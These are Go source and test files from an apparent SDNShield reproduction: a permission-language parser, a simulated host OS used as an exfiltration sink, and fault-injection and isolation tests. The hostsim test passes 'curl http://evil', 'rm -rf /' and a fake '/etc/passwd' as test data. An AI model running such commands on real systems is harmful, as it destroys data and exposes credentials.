			return nil, err
		}
		if p.p.Tok().Kind != permlang.TokRParen {
			return nil, p.errorf("expected ')' in permission expression")
		}
		return e, p.p.Next()

	case tok.Kind == permlang.TokLBrace:
		if err := p.p.Next(); err != nil {
			return nil, err
		}
		set := core.NewSet()
		for p.isKeyword("PERM") {
			perm, err := p.p.ParsePermStatement()
			if err != nil {
				return nil, err
			}
			set.Grant(perm.Token, perm.Filter)
		}
		if p.p.Tok().Kind != permlang.TokRBrace {
			return nil, p.errorf("expected '}' or PERM in permission block")
		}
		return &PermLit{Set: set}, p.p.Next()

	case p.isKeyword("APP"):
		if err := p.p.Next(); err != nil {
			return nil, err
		}
		appTok := p.p.Tok()
		if appTok.Kind != permlang.TokIdent && appTok.Kind != permlang.TokString {
			return nil, p.errorf("expected an app name after APP")
		}
		return &PermApp{AppName: appTok.Text}, p.p.Next()

	case tok.Kind == permlang.TokIdent:
		return &PermVar{Name: tok.Text}, p.p.Next()

	default:
		return nil, p.errorf("expected a permission expression, found %s %q", tok.Kind, tok.Text)
	}
}

// ---------------------------------------------------------------------------
// Boolean assertion expressions

func (p *parser) parseBoolOr() (BoolExpr, error) {
	left, err := p.parseBoolAnd()
	if err != nil {
		return nil, err
	}
	for p.isKeyword("OR") {
		if err := p.p.Next(); err != nil {
			return nil, err
		}
		right, err := p.parseBoolAnd()
		if err != nil {
			return nil, err
		}
		left = &BoolOr{L: left, R: right}
	}
	return left, nil
}

func (p *parser) parseBoolAnd() (BoolExpr, error) {
	left, err := p.parseBoolUnary()
	if err != nil {
		return nil, err
	}
	for p.isKeyword("AND") {
		if err := p.p.Next(); err != nil {
			return nil, err
		}
		right, err := p.parseBoolUnary()
		if err != nil {
			return nil, err
		}
		left = &BoolAnd{L: left, R: right}
	}
	return left, nil
}

func (p *parser) parseBoolUnary() (BoolExpr, error) {
	if p.isKeyword("NOT") {
		if err := p.p.Next(); err != nil {
			return nil, err
		}
		x, err := p.parseBoolUnary()
		if err != nil {
			return nil, err
		}
		return &BoolNot{X: x}, nil
	}
	if p.p.Tok().Kind == permlang.TokLParen {
		// '(' may open a parenthesized assertion or a parenthesized
		// permission expression inside a comparison; try the assertion
		// first and backtrack.
		save := p.p.Save()
		if err := p.p.Next(); err != nil {
			return nil, err
		}
		if inner, err := p.parseBoolOr(); err == nil && p.p.Tok().Kind == permlang.TokRParen {
			if err := p.p.Next(); err != nil {
				return nil, err
			}
			return inner, nil
		}
		p.p.Restore(save)
	}
	return p.parseCmp()
}

func (p *parser) parseCmp() (BoolExpr, error) {
	left, err := p.parsePermExpr()
	if err != nil {
		return nil, err
	}
	var op CmpOp
	switch p.p.Tok().Kind {
	case permlang.TokLt:
		op = CmpLt
	case permlang.TokGt:
		op = CmpGt
	case permlang.TokLe:
		op = CmpLe
	case permlang.TokGe:
		op = CmpGe
	case permlang.TokEq:
		op = CmpEq
	default:
		return nil, p.errorf("expected a comparison operator, found %s %q",
			p.p.Tok().Kind, p.p.Tok().Text)
	}
	if err := p.p.Next(); err != nil {
		return nil, err
	}
	right, err := p.parsePermExpr()
	if err != nil {
		return nil, err
	}
	return &CmpExpr{L: left, Op: op, R: right}, nil
}
