package hostsim

import (
	"sync"
	"testing"

	"sdnshield/internal/of"
)

func TestConnectAndDeliver(t *testing.T) {
	h := NewHostOS()
	attacker := h.RegisterEndpoint(of.IPv4FromOctets(203, 0, 113, 9), 80)

	if _, err := h.Connect(of.IPv4FromOctets(1, 2, 3, 4), 80); err == nil {
		t.Error("connect to unregistered endpoint should be refused")
	}
	conn, err := h.Connect(of.IPv4FromOctets(203, 0, 113, 9), 80)
	if err != nil {
		t.Fatal(err)
	}
	conn.Send([]byte("topology dump"))
	conn.Send([]byte("stats dump"))

	got := attacker.Received()
	if len(got) != 2 || string(got[0]) != "topology dump" {
		t.Errorf("received = %q", got)
	}
	// Snapshots don't alias internal state.
	got[0][0] = 'X'
	if string(attacker.Received()[0]) != "topology dump" {
		t.Error("snapshot aliases endpoint buffer")
	}
	// Re-registering returns the same endpoint.
	again := h.RegisterEndpoint(of.IPv4FromOctets(203, 0, 113, 9), 80)
	if again != attacker {
		t.Error("duplicate registration must return the existing endpoint")
	}
	ip, port := attacker.Addr()
	if ip != of.IPv4FromOctets(203, 0, 113, 9) || port != 80 {
		t.Error("Addr wrong")
	}
}

func TestFilesystem(t *testing.T) {
	h := NewHostOS()
	if _, err := h.ReadFile("/etc/passwd"); err == nil {
		t.Error("missing file should error")
	}
	h.WriteFile("/etc/passwd", []byte("root:x"))
	h.WriteFile("/var/log/ctl.log", []byte("log"))
	data, err := h.ReadFile("/etc/passwd")
	if err != nil || string(data) != "root:x" {
		t.Errorf("ReadFile = %q, %v", data, err)
	}
	files := h.Files()
	if len(files) != 2 || files[0] != "/etc/passwd" {
		t.Errorf("Files = %v", files)
	}
	// Returned data must not alias storage.
	data[0] = 'X'
	if fresh, _ := h.ReadFile("/etc/passwd"); string(fresh) != "root:x" {
		t.Error("ReadFile aliases storage")
	}
}

func TestExecLog(t *testing.T) {
	h := NewHostOS()
	h.Exec("curl http://evil")
	h.Exec("rm -rf /")
	log := h.ExecLog()
	if len(log) != 2 || log[1] != "rm -rf /" {
		t.Errorf("ExecLog = %v", log)
	}
}

func TestConcurrentUse(t *testing.T) {
	h := NewHostOS()
	ep := h.RegisterEndpoint(of.IPv4FromOctets(10, 0, 0, 1), 443)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				if conn, err := h.Connect(of.IPv4FromOctets(10, 0, 0, 1), 443); err == nil {
					conn.Send([]byte{byte(n)})
				}
				h.WriteFile("/tmp/f", []byte{byte(j)})
				h.Exec("noop")
				h.Files()
			}
		}(i)
	}
	wg.Wait()
	if len(ep.Received()) != 800 {
		t.Errorf("received %d payloads, want 800", len(ep.Received()))
	}
}
