// Package hostsim simulates the controller host machine's operating
// system surface: outbound network sockets, a filesystem and process
// execution. These are the "system calls" SDNShield's reference monitor
// mediates (§VI-A); the host_network / file_system / process_runtime
// permission tokens govern access to them.
//
// The simulation exists so the Class 2 (information leakage) experiments
// have a concrete sink: an attacker-controlled endpoint records whatever
// a compromised app manages to exfiltrate.
package hostsim

import (
	"fmt"
	"sort"
	"sync"

	"sdnshield/internal/of"
)

// endpointKey addresses a remote service.
type endpointKey struct {
	ip   of.IPv4
	port uint16
}

// Endpoint is a remote network service reachable from the controller
// host. It records every payload delivered to it.
type Endpoint struct {
	ip   of.IPv4
	port uint16

	mu       sync.Mutex
	received [][]byte
}

// Addr returns the endpoint's address.
func (e *Endpoint) Addr() (of.IPv4, uint16) { return e.ip, e.port }

// Received snapshots the payloads delivered so far.
func (e *Endpoint) Received() [][]byte {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([][]byte, len(e.received))
	for i, b := range e.received {
		c := make([]byte, len(b))
		copy(c, b)
		out[i] = c
	}
	return out
}

func (e *Endpoint) deliver(data []byte) {
	e.mu.Lock()
	defer e.mu.Unlock()
	c := make([]byte, len(data))
	copy(c, data)
	e.received = append(e.received, c)
}

// HostOS is the simulated operating system. All methods are
// concurrency-safe. The methods here are the raw, unmediated kernel
// surface; SDNShield's reference monitor wraps them per app.
type HostOS struct {
	mu        sync.Mutex
	endpoints map[endpointKey]*Endpoint
	files     map[string][]byte
	execLog   []string
}

// NewHostOS returns an empty host.
func NewHostOS() *HostOS {
	return &HostOS{
		endpoints: make(map[endpointKey]*Endpoint),
		files:     make(map[string][]byte),
	}
}

// RegisterEndpoint creates a reachable remote service (e.g. the
// administrator's collector, or an attacker's drop box).
func (h *HostOS) RegisterEndpoint(ip of.IPv4, port uint16) *Endpoint {
	h.mu.Lock()
	defer h.mu.Unlock()
	key := endpointKey{ip: ip, port: port}
	if ep, ok := h.endpoints[key]; ok {
		return ep
	}
	ep := &Endpoint{ip: ip, port: port}
	h.endpoints[key] = ep
	return ep
}

// Conn is an established outbound connection.
type Conn struct {
	ep *Endpoint
}

// Send delivers a payload to the remote endpoint.
func (c *Conn) Send(data []byte) {
	c.ep.deliver(data)
}

// Connect opens an outbound connection; it fails when nothing listens at
// the address (connection refused).
func (h *HostOS) Connect(ip of.IPv4, port uint16) (*Conn, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	ep, ok := h.endpoints[endpointKey{ip: ip, port: port}]
	if !ok {
		return nil, fmt.Errorf("hostsim: connect %s:%d: connection refused", ip, port)
	}
	return &Conn{ep: ep}, nil
}

// WriteFile stores a file.
func (h *HostOS) WriteFile(path string, data []byte) {
	h.mu.Lock()
	defer h.mu.Unlock()
	c := make([]byte, len(data))
	copy(c, data)
	h.files[path] = c
}

// ReadFile loads a file.
func (h *HostOS) ReadFile(path string) ([]byte, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	data, ok := h.files[path]
	if !ok {
		return nil, fmt.Errorf("hostsim: read %s: no such file", path)
	}
	c := make([]byte, len(data))
	copy(c, data)
	return c, nil
}

// Files lists stored paths, sorted.
func (h *HostOS) Files() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	out := make([]string, 0, len(h.files))
	for p := range h.files {
		out = append(out, p)
	}
	sort.Strings(out)
	return out
}

// Exec records a process execution (the simulation's stand-in for shell
// access).
func (h *HostOS) Exec(cmd string) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.execLog = append(h.execLog, cmd)
}

// ExecLog snapshots the executed commands.
func (h *HostOS) ExecLog() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	out := make([]string, len(h.execLog))
	copy(out, h.execLog)
	return out
}
