// Package faults makes failure a first-class, testable input to the
// SDNShield reproduction. It wraps an of.Conn with a deterministic fault
// schedule — dropped, delayed, duplicated, corrupted frames and hard
// disconnects — so the controller kernel's session resilience and the
// shield's degradation paths can be exercised reproducibly in tests,
// in internal/netsim networks and from cmd/attacksim.
//
// Determinism is the design center: a Plan decides the fault for the
// n-th message crossing the wrapper in each direction, so a given plan
// (or a given Random seed) yields the same schedule on every run,
// independent of cross-direction timing.
package faults

import (
	"math/rand"
	"sync"
	"sync/atomic"
	"time"

	"sdnshield/internal/obs"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/of"
)

// mInjected counts injected faults by kind in the process-wide telemetry
// registry, alongside each wrapper's own Stats. Indexed by Kind.
var mInjected = func() [Disconnect + 1]*obs.Counter {
	var out [Disconnect + 1]*obs.Counter
	for k := Drop; k <= Disconnect; k++ {
		out[k] = obs.Default().Counter("sdnshield_faults_injected_total",
			"Faults injected into switch control connections, by kind.", "kind", k.String())
	}
	return out
}()

// countInject records one injected fault in the telemetry registry and
// the forensic journal.
func countInject(k Kind) {
	mInjected[k].Inc()
	if audit.On() {
		audit.Emit(audit.Event{
			Kind:    audit.KindFault,
			Verdict: audit.VerdictInjected,
			Detail:  k.String(),
		})
	}
}

// Kind enumerates the injectable fault types.
type Kind uint8

// Fault kinds. None is the zero value: the message passes through.
const (
	None Kind = iota
	// Drop silently discards the message.
	Drop
	// Delay holds the message back before delivering it.
	Delay
	// Duplicate delivers the message twice.
	Duplicate
	// Corrupt truncates or mangles the message before delivery.
	Corrupt
	// Disconnect hard-closes the connection.
	Disconnect
)

// String names the fault kind.
func (k Kind) String() string {
	switch k {
	case None:
		return "none"
	case Drop:
		return "drop"
	case Delay:
		return "delay"
	case Duplicate:
		return "duplicate"
	case Corrupt:
		return "corrupt"
	case Disconnect:
		return "disconnect"
	default:
		return "fault(?)"
	}
}

// Direction distinguishes the two message streams crossing a wrapper.
type Direction uint8

// Directions, from the wrapper holder's point of view.
const (
	DirSend Direction = iota
	DirRecv
)

// Fault is one injection decision.
type Fault struct {
	Kind Kind
	// Delay is the hold-back duration for Kind == Delay.
	Delay time.Duration
}

// Plan decides which fault (if any) applies to the n-th message (0-based,
// counted per direction) crossing a wrapped connection. Implementations
// must be safe for concurrent use; decisions for a given direction are
// always requested in message order under the wrapper's lock.
type Plan interface {
	Decide(dir Direction, n int, msg of.Message) Fault
}

// Script is a fully explicit plan: faults at exact per-direction message
// indices. Unlisted indices pass through. The zero value injects nothing.
type Script struct {
	// Send maps send-side message indices to faults.
	Send map[int]Fault
	// Recv maps receive-side message indices to faults.
	Recv map[int]Fault
}

// Decide implements Plan.
func (s Script) Decide(dir Direction, n int, _ of.Message) Fault {
	m := s.Send
	if dir == DirRecv {
		m = s.Recv
	}
	return m[n]
}

// RandomConfig tunes a Random plan. Probabilities are per message and
// mutually exclusive, evaluated in the order drop, duplicate, corrupt,
// delay; their sum should stay <= 1.
type RandomConfig struct {
	Drop      float64
	Duplicate float64
	Corrupt   float64
	DelayProb float64
	// MaxDelay bounds injected delays; delays are uniform in (0, MaxDelay].
	MaxDelay time.Duration
	// DisconnectAfter hard-closes the connection once this many messages
	// crossed in one direction; 0 means never.
	DisconnectAfter int
}

// Random draws per-direction fault decisions from two independent seeded
// streams, so a given seed yields the same schedule on every run
// regardless of how sends and receives interleave.
type Random struct {
	cfg RandomConfig
	mu  [2]sync.Mutex
	rng [2]*rand.Rand
}

// NewRandom builds a seeded random plan.
func NewRandom(seed int64, cfg RandomConfig) *Random {
	return &Random{
		cfg: cfg,
		rng: [2]*rand.Rand{
			rand.New(rand.NewSource(seed)),
			rand.New(rand.NewSource(seed ^ 0x1e3779b97f4a7c15)),
		},
	}
}

// Decide implements Plan.
func (r *Random) Decide(dir Direction, n int, _ of.Message) Fault {
	i := int(dir) & 1
	r.mu[i].Lock()
	defer r.mu[i].Unlock()
	if r.cfg.DisconnectAfter > 0 && n >= r.cfg.DisconnectAfter {
		return Fault{Kind: Disconnect}
	}
	v := r.rng[i].Float64()
	switch {
	case v < r.cfg.Drop:
		return Fault{Kind: Drop}
	case v < r.cfg.Drop+r.cfg.Duplicate:
		return Fault{Kind: Duplicate}
	case v < r.cfg.Drop+r.cfg.Duplicate+r.cfg.Corrupt:
		return Fault{Kind: Corrupt}
	case v < r.cfg.Drop+r.cfg.Duplicate+r.cfg.Corrupt+r.cfg.DelayProb:
		d := r.cfg.MaxDelay
		if d <= 0 {
			d = time.Millisecond
		}
		return Fault{Kind: Delay, Delay: time.Duration(r.rng[i].Int63n(int64(d))) + 1}
	}
	return Fault{}
}

// Stats counts the faults a wrapper injected, per kind.
type Stats struct {
	Dropped     uint64
	Delayed     uint64
	Duplicated  uint64
	Corrupted   uint64
	Disconnects uint64
}

// Conn wraps an of.Conn with fault injection. It satisfies the of.Conn
// contract (one concurrent reader, any number of writers) as long as the
// wrapped connection does.
type Conn struct {
	inner of.Conn
	plan  Plan

	sendMu sync.Mutex
	sendN  int

	recvMu  sync.Mutex
	recvN   int
	recvDup of.Message // pending duplicate to deliver before the next read

	closeOnce sync.Once
	closed    chan struct{}

	dropped     atomic.Uint64
	delayed     atomic.Uint64
	duplicated  atomic.Uint64
	corrupted   atomic.Uint64
	disconnects atomic.Uint64
}

var _ of.Conn = (*Conn)(nil)

// Wrap layers a fault plan over a connection. A nil plan injects nothing.
func Wrap(inner of.Conn, plan Plan) *Conn {
	if plan == nil {
		plan = Script{}
	}
	return &Conn{inner: inner, plan: plan, closed: make(chan struct{})}
}

// Stats snapshots the injected-fault counters.
func (c *Conn) Stats() Stats {
	return Stats{
		Dropped:     c.dropped.Load(),
		Delayed:     c.delayed.Load(),
		Duplicated:  c.duplicated.Load(),
		Corrupted:   c.corrupted.Load(),
		Disconnects: c.disconnects.Load(),
	}
}

// Send implements of.Conn.
func (c *Conn) Send(msg of.Message) error {
	c.sendMu.Lock()
	n := c.sendN
	c.sendN++
	f := c.plan.Decide(DirSend, n, msg)
	c.sendMu.Unlock()
	switch f.Kind {
	case Drop:
		c.dropped.Add(1)
		countInject(Drop)
		return nil // the frame vanishes; the sender believes it left
	case Delay:
		c.delayed.Add(1)
		countInject(Delay)
		go func() {
			select {
			case <-time.After(f.Delay):
				_ = c.inner.Send(msg)
			case <-c.closed:
			}
		}()
		return nil
	case Duplicate:
		c.duplicated.Add(1)
		countInject(Duplicate)
		if err := c.inner.Send(msg); err != nil {
			return err
		}
		return c.inner.Send(msg)
	case Corrupt:
		c.corrupted.Add(1)
		countInject(Corrupt)
		return c.inner.Send(corrupt(msg))
	case Disconnect:
		c.disconnects.Add(1)
		countInject(Disconnect)
		_ = c.Close()
		return of.ErrClosed
	}
	return c.inner.Send(msg)
}

// Recv implements of.Conn.
func (c *Conn) Recv() (of.Message, error) {
	for {
		c.recvMu.Lock()
		if dup := c.recvDup; dup != nil {
			c.recvDup = nil
			c.recvMu.Unlock()
			return dup, nil
		}
		c.recvMu.Unlock()

		msg, err := c.inner.Recv()
		if err != nil {
			return nil, err
		}
		c.recvMu.Lock()
		n := c.recvN
		c.recvN++
		f := c.plan.Decide(DirRecv, n, msg)
		if f.Kind == Duplicate {
			c.recvDup = msg
		}
		c.recvMu.Unlock()
		switch f.Kind {
		case Drop:
			c.dropped.Add(1)
			countInject(Drop)
			continue
		case Delay:
			c.delayed.Add(1)
			countInject(Delay)
			select {
			case <-time.After(f.Delay):
			case <-c.closed:
				return nil, of.ErrClosed
			}
			return msg, nil
		case Duplicate:
			c.duplicated.Add(1)
			countInject(Duplicate)
			return msg, nil
		case Corrupt:
			c.corrupted.Add(1)
			countInject(Corrupt)
			return corrupt(msg), nil
		case Disconnect:
			c.disconnects.Add(1)
			countInject(Disconnect)
			_ = c.Close()
			return nil, of.ErrClosed
		}
		return msg, nil
	}
}

// Close implements of.Conn.
func (c *Conn) Close() error {
	c.closeOnce.Do(func() { close(c.closed) })
	return c.inner.Close()
}

// corrupt damages a message the way a mangled frame would surface after
// decoding: payloads are truncated, stats rows lost; messages with no
// payload to damage decode as an error frame carrying the same xid.
func corrupt(msg of.Message) of.Message {
	switch m := msg.(type) {
	case *of.PacketIn:
		cp := *m
		if cp.Packet != nil && len(cp.Packet.Payload) > 0 {
			cp.Packet = cp.Packet.Clone()
			cp.Packet.Payload = cp.Packet.Payload[:len(cp.Packet.Payload)/2]
			return &cp
		}
	case *of.PacketOut:
		cp := *m
		if cp.Packet != nil && len(cp.Packet.Payload) > 0 {
			cp.Packet = cp.Packet.Clone()
			cp.Packet.Payload = cp.Packet.Payload[:len(cp.Packet.Payload)/2]
			return &cp
		}
	case *of.EchoRequest:
		cp := *m
		cp.Data = cp.Data[:len(cp.Data)/2]
		return &cp
	case *of.EchoReply:
		cp := *m
		cp.Data = cp.Data[:len(cp.Data)/2]
		return &cp
	case *of.StatsReply:
		cp := *m
		cp.Flows = cp.Flows[:len(cp.Flows)/2]
		cp.Ports = cp.Ports[:len(cp.Ports)/2]
		return &cp
	}
	return &of.Error{
		Header:  of.Header{Xid: msg.XID()},
		Code:    of.ErrBadRequest,
		Message: "corrupted frame",
	}
}
