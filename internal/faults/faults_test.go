package faults

import (
	"errors"
	"testing"
	"time"

	"sdnshield/internal/of"
)

func echo(x uint32) *of.EchoRequest {
	return &of.EchoRequest{Header: of.Header{Xid: x}, Data: []byte{1, 2, 3, 4}}
}

// drain receives until the peer's buffer is empty, returning the xids seen.
func drain(t *testing.T, c of.Conn, want int, timeout time.Duration) []uint32 {
	t.Helper()
	var got []uint32
	done := make(chan struct{})
	go func() {
		defer close(done)
		for len(got) < want {
			msg, err := c.Recv()
			if err != nil {
				return
			}
			got = append(got, msg.XID())
		}
	}()
	select {
	case <-done:
	case <-time.After(timeout):
		t.Fatalf("drained %d of %d messages", len(got), want)
	}
	return got
}

func TestScriptDropAndDuplicateOnSend(t *testing.T) {
	a, b := of.Pipe()
	fc := Wrap(a, Script{Send: map[int]Fault{
		1: {Kind: Drop},
		2: {Kind: Duplicate},
	}})
	for x := uint32(1); x <= 3; x++ {
		if err := fc.Send(echo(x)); err != nil {
			t.Fatal(err)
		}
	}
	got := drain(t, b, 3, time.Second)
	want := []uint32{1, 3, 3}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("got %v, want %v", got, want)
		}
	}
	st := fc.Stats()
	if st.Dropped != 1 || st.Duplicated != 1 {
		t.Errorf("stats = %+v", st)
	}
}

func TestScriptRecvFaults(t *testing.T) {
	a, b := of.Pipe()
	fc := Wrap(b, Script{Recv: map[int]Fault{
		0: {Kind: Drop},
		2: {Kind: Duplicate},
	}})
	for x := uint32(1); x <= 3; x++ {
		if err := a.Send(echo(x)); err != nil {
			t.Fatal(err)
		}
	}
	got := drain(t, fc, 3, time.Second)
	want := []uint32{2, 3, 3}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("got %v, want %v", got, want)
		}
	}
}

func TestDelayHoldsMessageBack(t *testing.T) {
	a, b := of.Pipe()
	fc := Wrap(a, Script{Send: map[int]Fault{0: {Kind: Delay, Delay: 30 * time.Millisecond}}})
	start := time.Now()
	if err := fc.Send(echo(7)); err != nil {
		t.Fatal(err)
	}
	msg, err := b.Recv()
	if err != nil {
		t.Fatal(err)
	}
	if msg.XID() != 7 {
		t.Fatalf("xid = %d", msg.XID())
	}
	if elapsed := time.Since(start); elapsed < 25*time.Millisecond {
		t.Errorf("delivered after %v, want >= 30ms", elapsed)
	}
	if fc.Stats().Delayed != 1 {
		t.Errorf("stats = %+v", fc.Stats())
	}
}

func TestCorruptTruncatesAndMangles(t *testing.T) {
	a, b := of.Pipe()
	fc := Wrap(a, Script{Send: map[int]Fault{
		0: {Kind: Corrupt},
		1: {Kind: Corrupt},
	}})
	if err := fc.Send(echo(1)); err != nil {
		t.Fatal(err)
	}
	if err := fc.Send(&of.BarrierReply{Header: of.Header{Xid: 9}}); err != nil {
		t.Fatal(err)
	}
	msg, _ := b.Recv()
	er, ok := msg.(*of.EchoRequest)
	if !ok || len(er.Data) != 2 {
		t.Fatalf("first corrupt = %#v", msg)
	}
	msg, _ = b.Recv()
	if e, ok := msg.(*of.Error); !ok || e.XID() != 9 {
		t.Fatalf("payload-free corrupt should decode as an error frame, got %#v", msg)
	}
}

func TestDisconnectClosesBothWays(t *testing.T) {
	a, b := of.Pipe()
	fc := Wrap(a, Script{Send: map[int]Fault{1: {Kind: Disconnect}}})
	if err := fc.Send(echo(1)); err != nil {
		t.Fatal(err)
	}
	if err := fc.Send(echo(2)); !errors.Is(err, of.ErrClosed) {
		t.Fatalf("disconnect send err = %v", err)
	}
	if err := fc.Send(echo(3)); !errors.Is(err, of.ErrClosed) {
		t.Fatalf("post-disconnect send err = %v", err)
	}
	// The peer sees the close after draining what was delivered.
	if msg, err := b.Recv(); err != nil || msg.XID() != 1 {
		t.Fatalf("peer recv = %v, %v", msg, err)
	}
	if _, err := b.Recv(); !errors.Is(err, of.ErrClosed) {
		t.Fatalf("peer should observe close, got %v", err)
	}
	if fc.Stats().Disconnects != 1 {
		t.Errorf("stats = %+v", fc.Stats())
	}
}

// TestRandomDeterminism: the same seed must produce the identical fault
// schedule, message for message.
func TestRandomDeterminism(t *testing.T) {
	cfg := RandomConfig{Drop: 0.2, Duplicate: 0.1, Corrupt: 0.1, DelayProb: 0.2, MaxDelay: time.Millisecond}
	run := func(seed int64) []Kind {
		p := NewRandom(seed, cfg)
		out := make([]Kind, 0, 200)
		for n := 0; n < 100; n++ {
			out = append(out, p.Decide(DirSend, n, echo(uint32(n))).Kind)
		}
		for n := 0; n < 100; n++ {
			out = append(out, p.Decide(DirRecv, n, echo(uint32(n))).Kind)
		}
		return out
	}
	a, b, c := run(42), run(42), run(43)
	same := true
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("seed 42 diverged at %d: %v vs %v", i, a[i], b[i])
		}
		if a[i] != c[i] {
			same = false
		}
	}
	if same {
		t.Error("seeds 42 and 43 produced identical schedules")
	}
	// The schedule actually injects something at these rates.
	var faultsSeen int
	for _, k := range a {
		if k != None {
			faultsSeen++
		}
	}
	if faultsSeen == 0 {
		t.Error("random plan injected nothing over 200 messages")
	}
}

func TestRandomDisconnectAfter(t *testing.T) {
	p := NewRandom(1, RandomConfig{DisconnectAfter: 3})
	for n := 0; n < 3; n++ {
		if f := p.Decide(DirSend, n, echo(1)); f.Kind == Disconnect {
			t.Fatalf("disconnected early at %d", n)
		}
	}
	if f := p.Decide(DirSend, 3, echo(1)); f.Kind != Disconnect {
		t.Fatalf("message 3 should disconnect, got %v", f.Kind)
	}
}
