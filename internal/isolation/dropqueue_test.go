package isolation

import (
	"sync/atomic"
	"testing"
	"time"

	"sdnshield/internal/controller"
	"sdnshield/internal/netsim"
	"sdnshield/internal/of"
)

// TestDropOnFullQueue verifies the non-blocking delivery mode: a slow app
// loses events beyond its queue (counted) instead of stalling the kernel.
func TestDropOnFullQueue(t *testing.T) {
	b, err := netsim.Linear(1)
	if err != nil {
		t.Fatal(err)
	}
	defer b.Net.Stop()
	k := controller.New(b.Topo, nil)
	defer k.Stop()
	sw := b.Net.Switches()[0]
	ctrlSide, swSide := of.Pipe()
	if err := sw.Start(swSide); err != nil {
		t.Fatal(err)
	}
	if _, err := k.AcceptSwitch(ctrlSide); err != nil {
		t.Fatal(err)
	}

	s := NewShield(k, Config{EventQueueSize: 2, DropOnFullQueue: true})
	defer s.Stop()
	grant(t, s, "slow", "PERM pkt_in_event")

	var handled atomic.Uint64
	release := make(chan struct{})
	slow := app("slow", func(a API) error {
		return a.Subscribe(controller.EventPacketIn, func(controller.Event) {
			<-release
			handled.Add(1)
		})
	})
	if err := s.Launch(slow); err != nil {
		t.Fatal(err)
	}

	// Flood far beyond the queue while the handler blocks.
	h := b.Hosts[0]
	for i := 0; i < 64; i++ {
		h.Send(of.NewARPRequest(h.MAC(), h.IP(), of.IPv4(i)))
	}
	// Give the kernel time to attempt all deliveries.
	deadline := time.Now().Add(2 * time.Second)
	c, _ := s.Container("slow")
	for c.DroppedEvents() == 0 {
		if time.Now().After(deadline) {
			t.Fatal("no drops recorded")
		}
		time.Sleep(time.Millisecond)
	}
	close(release)

	// The kernel never stalled: synchronous service still works.
	if _, err := k.SwitchStats(1); err != nil {
		t.Fatalf("kernel stalled: %v", err)
	}
	// Eventually the queued events are handled; total handled + dropped
	// accounts for every delivery attempt that passed the filter.
	deadline = time.Now().Add(2 * time.Second)
	for handled.Load() == 0 {
		if time.Now().After(deadline) {
			t.Fatal("queued events never delivered")
		}
		time.Sleep(time.Millisecond)
	}
	if c.DroppedEvents() == 0 {
		t.Error("drops must be counted")
	}
}

// TestKernelAnswersEchoFromSwitch: a switch-originated echo request is
// answered by the kernel's dispatcher (liveness in both directions).
func TestKernelAnswersEchoFromSwitch(t *testing.T) {
	k := controller.New(nil, nil)
	defer k.Stop()

	ctrlSide, swSide := of.Pipe()
	// Speak the switch side by hand.
	if err := swSide.Send(&of.Hello{Header: of.Header{Xid: 1}}); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() {
		_, err := k.AcceptSwitch(ctrlSide)
		done <- err
	}()
	// Serve the handshake manually.
	for {
		msg, err := swSide.Recv()
		if err != nil {
			t.Fatal(err)
		}
		if msg.Type() == of.MsgFeaturesRequest {
			if err := swSide.Send(&of.FeaturesReply{
				Header: of.Header{Xid: msg.XID()}, DPID: 42, NumPorts: 1,
				Ports: []of.PortInfo{{Port: 1, Name: "p1", Up: true}},
			}); err != nil {
				t.Fatal(err)
			}
			break
		}
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}

	if err := swSide.Send(&of.EchoRequest{Header: of.Header{Xid: 77}, Data: []byte("alive?")}); err != nil {
		t.Fatal(err)
	}
	deadline := time.After(2 * time.Second)
	for {
		select {
		case <-deadline:
			t.Fatal("no echo reply from the kernel")
		default:
		}
		msg, err := swSide.Recv()
		if err != nil {
			t.Fatal(err)
		}
		if reply, ok := msg.(*of.EchoReply); ok {
			if reply.XID() != 77 || string(reply.Data) != "alive?" {
				t.Fatalf("echo reply = %+v", reply)
			}
			return
		}
	}
}
