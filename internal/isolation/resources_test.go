package isolation

import (
	"encoding/json"
	"errors"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	"sdnshield/internal/core"
	"sdnshield/internal/obs"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/obs/recorder"
)

// noQuotaLoop disables the background sweep so tests drive CheckQuotas
// with controlled clocks.
func noQuotaLoop() Config {
	return Config{KSDWorkers: 2, QuotaCheckInterval: -1}
}

func TestAccountingTracksMediatedCalls(t *testing.T) {
	// Durations ride the latency sampler; measure every call so the
	// accounting assertions are deterministic.
	prevSampling := obs.SetLatencySampling(1)
	defer obs.SetLatencySampling(prevSampling)
	env := newEnvCfg(t, 2, noQuotaLoop())
	grant(t, env.shield, "meter", "PERM visible_topology")
	var api API
	if err := env.shield.Launch(app("meter", func(a API) error { api = a; return nil })); err != nil {
		t.Fatal(err)
	}
	recorder.Default().Reset()
	const calls = 20
	for i := 0; i < calls; i++ {
		if _, err := api.Switches(); err != nil {
			t.Fatal(err)
		}
	}

	c, _ := env.shield.Container("meter")
	u := c.usage()
	if u.MediatedCalls < calls {
		t.Fatalf("mediated calls = %d, want >= %d", u.MediatedCalls, calls)
	}
	// Sampling is 1-in-1 above, so every call contributed execution time.
	if u.CPUMillis <= 0 {
		t.Fatalf("cpu ms = %v, want > 0", u.CPUMillis)
	}
	if u.Goroutines < 1 {
		t.Fatalf("goroutines = %d, want >= 1 (event loop)", u.Goroutines)
	}
	if u.Budget != nil {
		t.Fatalf("budget = %+v, want none", u.Budget)
	}

	// The same view flows through UsageSnapshot and HealthSnapshot.
	if got := env.shield.UsageSnapshot()["meter"]; got.MediatedCalls < calls {
		t.Fatalf("UsageSnapshot = %+v", got)
	}
	var found bool
	for _, a := range env.shield.HealthSnapshot().Apps {
		if a.App == "meter" && a.Usage.MediatedCalls >= calls {
			found = true
		}
	}
	if !found {
		t.Fatal("health snapshot lacks meter's usage")
	}

	// Every call left a flight-recorder frame carrying its correlation ID.
